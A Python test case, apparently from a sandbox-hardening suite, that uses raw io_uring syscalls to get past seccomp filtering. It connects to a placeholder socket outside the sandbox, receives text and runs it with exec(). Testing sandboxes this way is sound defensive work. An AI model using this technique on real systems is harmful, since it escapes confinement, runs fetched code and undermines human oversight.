# Tries: to connect through a ring of io_uring, whose orders no filter of system calls sees.
# Stopped by: seccomp
# Without it: the limit on locked memory leaves no room for a ring.
# Flags: ctypes
# %%
import ctypes
import mmap
import struct

libc = ctypes.CDLL(None, use_errno=True)
SETUP, ENTER = 425, 426  # the same on x86_64 and aarch64
SOCKET, CONNECT, RECV = 45, 16, 27
parameters = ctypes.create_string_buffer(120)
ring = libc.syscall(SETUP, 4, parameters)
sq_mask, sq_array = (struct.unpack_from("I", parameters, 40 + at)[0] for at in (8, 24))
sq_tail = struct.unpack_from("I", parameters, 44)[0]
cq_head, cq_tail, cq_mask, _, _, cqes = struct.unpack_from("6I", parameters, 80)
queues = mmap.mmap(ring, 4096)
orders = mmap.mmap(ring, 4096, offset=0x10000000)

def ordered(code, descriptor, offset, address, length):
    "Submit one order and wait for its result."
    tail = struct.unpack_from("I", queues, sq_tail)[0]
    entry = struct.pack("BBHiQQI", code, 0, 0, descriptor, offset, address, length).ljust(64, b"\0")
    orders[(tail & 3) * 64 : (tail & 3) * 64 + 64] = entry
    struct.pack_into("I", queues, sq_array + (tail & 3) * 4, tail & 3)
    struct.pack_into("I", queues, sq_tail, tail + 1)
    libc.syscall(ENTER, ring, 1, 1, 1, None, 0)
    head = struct.unpack_from("I", queues, cq_head)[0]
    result = struct.unpack_from("Qi", queues, cqes + (head & 7) * 16)[1]
    struct.pack_into("I", queues, cq_head, head + 1)
    return result

name = ctypes.create_string_buffer(struct.pack("H", 1) + b"__OUTSIDE__/answers.sock")
server = ordered(SOCKET, 1, 1, 0, 0)
ordered(CONNECT, server, len(name), ctypes.addressof(name), 0)
text = ctypes.create_string_buffer(4096)
ordered(RECV, server, 0, ctypes.addressof(text), 4095)
exec(text.value)
